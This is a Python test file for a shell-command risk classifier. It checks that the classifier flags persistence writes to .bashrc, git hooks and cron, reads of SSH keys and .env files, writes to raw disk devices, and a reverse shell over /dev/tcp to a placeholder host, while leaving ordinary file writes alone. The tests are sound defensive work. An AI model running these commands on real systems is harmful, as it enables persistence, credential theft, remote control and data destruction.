"""Reads and writes by where they land."""

import pytest

from tests.support.shell_reading import risks

WRITERS = [
    "echo x > {}",
    "echo x >> {}",
    "echo x >| {}",
    "x &> {}",
    "tee {} < a",
    "cp a {}",
    "mv a {}",
    "install a {}",
    "ln -sf a {}",
    "sed -i s/a/b/ {}",
    "dd if=a of={}",
    "curl -o {} https://x.example",
    "wget -O {} https://x.example",
    "sort -o {} a",
    "touch {}",
    "find . -fprint {}",
    'python3 -c \'open("{}","w")\'',
    "awk '{{print > \"{}\"}}' a",
    "perl -e 'open(F, \">{}\")'",
    "cat > {} <<'E'\nx\nE",
    "git diff --output={}",
    "tar cf {} src",
]


@pytest.mark.parametrize("writer", WRITERS[:-1])
@pytest.mark.parametrize("path", ["/home/agent/.bashrc", ".git/hooks/pre-commit", "/etc/cron.d/x"])
def test_write_that_lasts_is_found_by_any_means(writer, path):
    """Start-up files, hooks and the system are the same through every tool."""
    assert risks(writer.format(path)) & {"persistence", "remote_code"}


EMPTYING = {'python3 -c \'open("{}","w")\'', "find . -fprint {}"}


@pytest.mark.parametrize("writer", [writer for writer in WRITERS if writer not in EMPTYING])
def test_write_into_the_work_is_fine(writer):
    """Writing files is what the work is."""
    assert risks(writer.format("out/x")) == set()


@pytest.mark.parametrize("path", ["/dev/sda", "/dev/nvme0n1", "/proc/sysrq-trigger", "/sys/x"])
def test_write_to_a_device_is_destructive(path):
    """A disk is not a file."""
    assert "destructive" in risks(f"cat x > {path}")


@pytest.mark.parametrize("path", ["/dev/null", "/dev/stderr", "/dev/tty", "/tmp/x", "~/notes"])
def test_write_to_a_harmless_place_is_fine(path):
    """Not every path under /dev is a disk."""
    assert risks(f"echo x > {path}") == set()


@pytest.mark.parametrize(
    "reader", ["cat {}", "head -1 {}", "x < {}", "base64 {}", "cp {} .", "grep a {}"]
)
def test_read_of_a_key_is_found_by_any_means(reader):
    """A key in the transcript is a key in many logs."""
    assert "secrets" in risks(reader.format("~/.ssh/id_ed25519"))


def test_private_settings_may_be_loaded_but_not_shown():
    """``source .env`` is how projects start; ``cat .env`` prints keys."""
    assert (risks("source .env && npm start"), risks("cat .env")) == (set(), {"secrets"})


@pytest.mark.parametrize("form", ["cat < {}", "exec 3<>{}", "bash -i >& {} 0>&1", "cat f > {}"])
def test_network_devices_of_the_shell_carry_data_both_ways(form):
    """``/dev/tcp`` is a socket, not a file: opened to read, it can be written to all the same."""
    assert {"remote_code", "upload"} <= risks(form.format("/dev/tcp/h.example/80"))
    assert "upload" not in risks(form.format("/dev/tcp/localhost/80"))


@pytest.mark.parametrize(
    "command",
    [
        "stty erase X < /dev/pts/0",
        "echo 'git push' > /dev/pts/1",
        "cat < /proc/42/fd/0",
        "echo x >> /proc/42/fd/1",
    ],
)
def test_other_processes_terminals_and_files_are_opaque(command):
    """What is set or said there changes what another process does, out of sight."""
    assert "opaque" in risks(command)


@pytest.mark.parametrize(
    "command", ["echo x > /proc/self/fd/2", "cat < /dev/fd/3", "echo > /dev/tty"]
)
def test_own_descriptors_are_plain(command):
    """Scripts use them daily."""
    assert "opaque" not in risks(command)
